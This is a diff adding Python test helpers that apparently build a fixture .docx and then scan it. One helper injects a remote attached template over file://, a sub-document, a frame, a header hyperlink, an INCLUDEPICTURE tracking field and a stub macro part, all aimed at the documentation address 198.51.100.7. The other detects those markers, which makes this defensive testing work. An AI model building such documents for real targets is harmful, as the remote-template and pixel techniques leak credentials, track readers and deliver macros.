@@ -185,3 +185,103 @@ def unwritable_system_folder() -> Path | None:
         return folder
     probe.rmdir()  # pragma: no cover - a writable sysfs: not a usable folder
     return None
+
+
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REMOTE = "http://198.51.100.7/share"  # a documentation address: never reachable
+
+
+def reference_reaching_out(source: bytes) -> bytes:
+    """A copy of the .docx *source* that would make Word fetch remote files: an attached
+    template on a network share, a sub-document, a frame, a header hyperlink and an
+    INCLUDEPICTURE field in the header, and a macro part."""
+    import docx
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from lxml import etree
+
+    document = docx.Document(io.BytesIO(source))
+    header = document.sections[0].header
+    header.is_linked_to_previous = False
+    rid = header.part.relate_to(f"{REMOTE}/header-link", RT.HYPERLINK, is_external=True)
+    paragraph = header.paragraphs[0]
+    paragraph.add_run("页眉链接")
+    link = etree.SubElement(paragraph._p, f"{{{W_NS}}}hyperlink")
+    link.set(f"{{{R_NS}}}id", rid)
+    link.append(paragraph.runs[0]._r)
+    field = etree.SubElement(paragraph._p, f"{{{W_NS}}}fldSimple")
+    field.set(f"{{{W_NS}}}instr", f'INCLUDEPICTURE "{REMOTE}/pixel.png" \\d')
+    buf = io.BytesIO()
+    document.save(buf)
+    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    out = io.BytesIO()
+    rel = '<Relationship Id="{id}" Type="{ns}/{kind}" Target="{target}" TargetMode="External"/>'
+    extra = "".join(
+        rel.format(id=i, ns=R_NS, kind=k, target=t)
+        for i, k, t in (
+            ("rIdSub", "subDocument", f"{REMOTE}/sub.docx"),
+            ("rIdFrame", "frame", f"{REMOTE}/frame.htm"),
+        )
+    )
+    vba = '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info)
+            if info.filename == "word/_rels/document.xml.rels":
+                data = data.replace(
+                    b"</Relationships>", (extra + vba).encode() + b"</Relationships>"
+                )
+            elif info.filename == "word/settings.xml":
+                text = data.decode("utf-8")
+                m = re.search(r"<w:settings\b[^>]*>", text)
+                assert m is not None
+                tag = m.group(0)
+                if "xmlns:r=" not in tag:
+                    tag = tag[:-1] + f' xmlns:r="{R_NS}">'
+                data = (
+                    text[: m.start()]
+                    + tag
+                    + '<w:attachedTemplate r:id="rIdTpl"/>'
+                    + text[m.end() :]
+                ).encode()
+            elif info.filename == "[Content_Types].xml":
+                data = data.replace(
+                    b"</Types>",
+                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+                )
+            zout.writestr(info, data)
+        zout.writestr(
+            "word/_rels/settings.xml.rels",
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            + rel.format(
+                id="rIdTpl",
+                ns=R_NS,
+                kind="attachedTemplate",
+                target="file://198.51.100.7/share/normal.dotm",
+            )
+            + "</Relationships>",
+        )
+        zout.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really macros")
+    return out.getvalue()
+
+
+def external_targets(docx_bytes: bytes) -> list[str]:
+    """Every remote address, attached template, sub-document, frame or macro part left in a .docx."""
+    found: list[str] = []
+    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as zf:
+        for name in zf.namelist():
+            data = zf.read(name)
+            if b"198.51.100.7" in data:
+                found.append(f"{name}: remote address")
+            for marker in (
+                b"attachedTemplate",
+                b"subDocument",
+                b'/frame"',
+                b"vbaProject",
+                b"INCLUDEPICTURE",
+            ):
+                if marker in data:
+                    found.append(f"{name}: {marker.decode()}")
+            if name.lower().endswith(".bin") and "vba" in name.lower():
+                found.append(f"{name}: macro part")
+    return found
